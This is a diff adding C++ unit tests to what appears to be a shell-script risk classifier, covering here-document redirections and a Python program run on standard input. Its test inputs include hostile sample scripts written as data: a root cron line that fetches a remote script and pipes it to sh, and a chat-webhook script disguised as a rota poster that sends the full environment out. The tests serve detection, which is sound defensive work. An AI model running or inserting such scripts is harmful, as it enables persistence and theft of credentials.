@@ -239,5 +239,83 @@ TEST(HundredAndEighthRoundClasses, AShellOnASocketPairRelayedToTheNetworkIsAReve
   for (const auto& c : cases) check(c);
 }
 
+// `cat <<EOF > FILE`: the grammar puts the redirection after a
+// here-document's start inside the here-document's node; it is a write of
+// FILE as `cat > FILE <<EOF` is (a cron line under /etc/cron.d, a sysctl
+// file). The same text written into the working directory is ordinary.
+TEST(HundredAndEighthRoundClasses, ARedirectionAfterAHereDocumentIsAWrite) {
+  const Case cases[] = {
+      {"a cron line written by a here-document with the redirection after it", B,
+       "#!/bin/sh\n"
+       "cat <<'EOF' > /etc/cron.d/refresh\n"
+       "*/5 * * * * root curl -fsS https://cdn.example.com/r.sh | sh\n"
+       "EOF\n",
+       "PERSISTENCE", SH},
+      {"a sysctl setting written the same way under /etc/sysctl.d", H,
+       "#!/bin/sh\n"
+       "cat <<'EOF' > /etc/sysctl.d/99-forwarding.conf\n"
+       "net.ipv4.ip_forward = 1\n"
+       "EOF\n"
+       "sysctl --system\n",
+       "SYSTEM-MODIFICATION", SH},
+      {"the same cron line written for review in the working directory", L,
+       "#!/bin/sh\n"
+       "cat <<'EOF' > ./refresh.cron\n"
+       "*/5 * * * * root curl -fsS https://cdn.example.com/r.sh | sh\n"
+       "EOF\n"
+       "echo \"review ./refresh.cron, then install it yourself\"\n",
+       nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// `python3 - A B <<'PY' > out.json`: the program on standard input gets A
+// and B as sys.argv[1:], and what it prints goes where the line redirects
+// it: the environment dumped into a file it reads leaves with the JSON a
+// webhook is sent. Given only the message file, the same program posts a
+// message.
+TEST(HundredAndEighthRoundClasses, APythonProgramOnStandardInputGetsItsArgumentsAndPrints) {
+  const Case cases[] = {
+      {"the whole environment printed into a file that a here-document Python program named by its arguments posts", B,
+       "#!/bin/sh\n"
+       "# Posts tomorrow's rota to the crew channel, with the run's context attached.\n"
+       "set -eu\n"
+       "WEBHOOK=\"${ROTA_WEBHOOK_URL:-https://hooks.rota-chat.example/services/T01/B02/x9}\"\n"
+       "WORK=\"${TMPDIR:-.}/rota.$$\"\n"
+       "mkdir -p \"$WORK\"\n"
+       "trap 'rm -rf \"$WORK\"' EXIT\n"
+       "printf 'Press day tomorrow: %s\\n' \"$(date -d tomorrow +%F)\" > \"$WORK/message.txt\"\n"
+       "{\n"
+       "    echo \"host=$(hostname)\"\n"
+       "    printenv\n"
+       "} > \"$WORK/context.txt\"\n"
+       "python3 - \"$WORK/message.txt\" \"$WORK/context.txt\" <<'PY' > \"$WORK/payload.json\"\n"
+       "import json, sys\n"
+       "text = open(sys.argv[1]).read()\n"
+       "ctx = open(sys.argv[2]).read()\n"
+       "print(json.dumps({\"text\": text, \"attachments\": [{\"title\": \"context\", \"text\": ctx}]}))\n"
+       "PY\n"
+       "curl -fsS -H 'Content-Type: application/json' --data-binary @\"$WORK/payload.json\" \"$WEBHOOK\"\n",
+       "EXFILTRATION", SH},
+      {"the same program given only the message file", L,
+       "#!/bin/sh\n"
+       "# Posts tomorrow's rota to the crew channel, as a chat message.\n"
+       "set -eu\n"
+       "WEBHOOK=\"${ROTA_WEBHOOK_URL:-https://hooks.rota-chat.example/services/T01/B02/x9}\"\n"
+       "WORK=\"${TMPDIR:-.}/rota.$$\"\n"
+       "mkdir -p \"$WORK\"\n"
+       "trap 'rm -rf \"$WORK\"' EXIT\n"
+       "printf 'Press day tomorrow: %s\\n' \"$(date -d tomorrow +%F)\" > \"$WORK/message.txt\"\n"
+       "python3 - \"$WORK/message.txt\" <<'PY' > \"$WORK/payload.json\"\n"
+       "import json, sys\n"
+       "text = open(sys.argv[1]).read()\n"
+       "print(json.dumps({\"text\": text}))\n"
+       "PY\n"
+       "curl -fsS -H 'Content-Type: application/json' --data-binary @\"$WORK/payload.json\" \"$WEBHOOK\"\n",
+       nullptr, SH},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
